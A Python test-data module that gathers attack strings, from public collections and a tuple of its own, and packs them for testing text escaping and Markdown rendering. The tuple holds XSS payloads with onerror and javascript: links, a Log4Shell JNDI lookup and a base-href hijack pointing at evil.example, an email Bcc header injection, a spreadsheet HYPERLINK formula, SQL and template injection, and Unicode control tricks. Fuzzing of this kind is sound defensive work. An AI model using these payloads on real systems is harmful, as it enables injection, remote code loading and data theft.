"""The attack strings: public collections where they lie beside the checkout, and a few of our own.

Packing puts several lines into one string. What escapes text looks at one character at a time, so a
packed line is as dangerous as a single one; only what reads Markdown gets each line by itself.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterable
from pathlib import Path

FOLDER = Path(__file__).parents[2].parent / "shared/data/attacks"
MISSING = "the collections of attack strings are not beside this checkout"

OWN = (
    "{{ 7 * 7 }}{% for a in () %}{# b #}",
    "%(num)s %s %n %d %x 100%",
    "{0.__class__} {name!r} ${jndi:ldap://evil.example/a}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;",
    '"><main></main><footer></footer><base href=//evil.example/>',
    "</textarea></title></style></script></noscript><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "[a](java\tscript:alert(1)) <java\nscript:alert(1)> ![b](data:text/html,x)",
    "<https://a.example/\"onmouseover='alert(1)'> https://a.example/'><b>",
    "https://a.example/`onclick=alert(1)` https://a.example/&quot;onclick=alert(1)",
    "*<b>* **<i>** `<u>` > <s>\n- <li>\n1. <ol>",
    "\u202eevil\u202c\u2066\u2069 zero\u200bwidth\ufeff \u0000 \u0007 \x1b[31m \x7f \x85 \u2028",
    "e" + "\u0301" * 1000,
    "A\r\nBcc: eve@evil.example\r\n\r\n<b>body</b>",
    '=HYPERLINK("https://evil.example","x") +1-1 @SUM(A1) | calc',
    "' OR 1=1 -- %27%20OR \\' \\\\ \\x27 \\u0027 %% __ [a-z] NEAR/2 \"a\" *",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U000e0041\U000e007f \U0010ffff \ufffe",
)


def read_lines() -> tuple[str, ...]:
    """Return every line once, or nothing at all where the collections are missing."""
    if not FOLDER.is_dir():
        return ()
    with gzip.open(FOLDER / "blns.json.gz", "rt", encoding="utf-8") as file:
        naughty = json.load(file)
    with gzip.open(FOLDER / "payloadbox_xss.txt.gz", "rt", encoding="utf-8", newline="\n") as file:
        scripts = file.read().split("\n")
    return tuple(dict.fromkeys(line for line in (*OWN, *naughty, *scripts) if line))


def pack(lines: Iterable[str], longest: int) -> list[str]:
    """Join lines into strings of at most ``longest``; one that is longer itself goes in cut."""
    packs = [""]
    for line in lines:
        cut = line[: longest // 2]
        if len(packs[-1]) + 1 + len(cut) > longest:
            packs.append("")
        packs[-1] = f"{packs[-1]} {cut}".strip()
    return [one for one in packs if one]
